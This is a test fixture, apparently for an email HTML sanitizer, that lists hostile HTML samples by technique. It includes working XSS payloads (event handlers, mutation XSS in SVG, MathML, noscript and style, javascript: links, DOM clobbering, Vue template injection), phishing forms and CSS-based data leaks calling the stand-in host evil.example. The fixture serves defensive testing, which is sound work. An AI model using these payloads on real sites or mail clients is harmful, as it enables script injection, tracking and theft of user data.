/** Mail that tries something, by what it tries: the project's own vectors. `alert` stands for any script. */
export const HOSTILE_HTML: Record<string, string> = {
  'an event handler': '<img src=x onerror=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>',
  'a script': '<script>alert(1)</script><script src="//evil.example/x.js"></script>',
  'SVG and animation':
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg><svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  MathML:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation in noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation in a style': '<style><style /><img src=x onerror=alert(1)>',
  'an end tag in a style': '<style>a::after{content:"</style><img src=x onerror=alert(1)>"}</style>',
  'an end tag inside a selector':
    '<style>a[title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;"]{color:red}</style>',
  'a template':
    '<template><img src=x onerror=alert(1)></template><div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  'javascript: links':
    '<a href="javascript:alert(1)">x</a><a href=" &#1;java&#10;script:alert(1)">y</a><a href="data:text/html,<script>alert(1)</script>">z</a><a href="vbscript:alert(1)">v</a>',
  'a form':
    '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">go</button></form>',
  clobbering:
    '<form id=app><input name=body></form><a id=defaultView></a><img name=createElement><form><input name=attributes><input name=parentNode></form>',
  'base and refresh':
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/"><a href="relative">r</a>',
  frames:
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y"><frameset><frame src="https://evil.example/z"></frameset>',
  'remote everything':
    '<img src="https://evil.example/1.png" srcset="https://evil.example/2.png 2x"><video poster="//evil.example/3.png" src="https://evil.example/4"><audio src="https://evil.example/5"></audio><link rel=stylesheet href="https://evil.example/6.css"><link rel="prefetch dns-prefetch preconnect" href="https://evil.example/7"><table background="https://evil.example/8.png"><tr><td background="//evil.example/9.png">x</td></tr></table><picture><source srcset="https://evil.example/10"><img src="/local.png"></picture><input type=image src="https://evil.example/11"><img src=" https://evil.example/12">',
  'remote in styles':
    '<style>@import "https://evil.example/1.css";@import url(//evil.example/2.css);@font-face{font-family:f;src:url(https://evil.example/3.woff)}p{font-family:f;background:url(https://evil.example/4)}p{--a:url(https://evil.example/5);background-image:var(--a)}p::before{content:url(https://evil.example/6)}li{list-style:url("https://evil.example/7")}@media all{p{background:image-set("https://evil.example/8" 1x)}}p{cursor:url(https://evil.example/9),auto;border-image:url(https://evil.example/10) 1}p{background:u\\72 l(https://evil.example/11)}p{background:URL(https://evil.example/12)}p{background:url(https://evil.example/13</style><p style="background:url(https://evil.example/14);--b: u\\72 l(https://evil.example/15);background:var(--b)"><li>x',
  'substitution in styles':
    '<style>p{background:var(--n,red) image-set("https://evil.example/1" 1x)}p{--u:u\\72 l(https://evil.example/2);background:var(--u)}p::before{content:env(z,image-set("https://evil.example/3" 1x))}@property --p{syntax:"<url>";inherits:true;initial-value:url(https://evil.example/4)}@function --f(){result:url(https://evil.example/5)}p{background:--f()}@supports (color:red){p{background:if(else:u\\72 l(https://evil.example/6))}}@page{background:url(https://evil.example/7);@top-left{content:url(https://evil.example/7)}}@counter-style c{system:cyclic;symbols:url(https://evil.example/8)}p{& i{background:var(--n,image-set("https://evil.example/9" 1x))}}</style><p style="background:var(--n,red) image-set(\'https://evil.example/11\' 1x)"><i style="background:u\\72 l(https://evil.example/12)">x</i><b style="background:env(z,image-set(\'https://evil.example/13\' 1x))">x</b><u style="background:if(else:u\\72 l(https://evil.example/14))">x</u><s style="background:attr(title type(&lt;url&gt;))" title="https://evil.example/15">x</s><em style="--a:image-set(\'https://evil.example/16\' 1x);background:var(--a)">x</em><tt style="background:src(\'https://evil.example/17\') image(\'https://evil.example/18\')">x</tt><a style="-webkit-mask-image:url(https://evil.example/19);mask:url(https://evil.example/20);shape-outside:url(https://evil.example/21);offset-path:url(https://evil.example/22);filter:url(https://evil.example/23#f);clip-path:url(https://evil.example/24#c)">x</a>',
  'a leak by selectors':
    '<style>a[href^="https://a"]{background:url(https://evil.example/a)}@font-face{font-family:l;src:url(https://evil.example/l);unicode-range:U+41}body{font-family:l}</style><a href="https://a.example/">A</a>',
  'a picture inside that is none':
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>"><img src="data:text/html,<script>alert(1)</script>"><img src="cid:nowhere@x"><img src="cid:../../etc">',
  'an overlay':
    '<div style="position:fixed!important;inset:0;z-index:2147483647;background:red">over all</div>',
  'a part that does not end': '<img src="https://evil.example/?',
  'Vue templates':
    "{{constructor.constructor('alert(1)')()}}<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
}
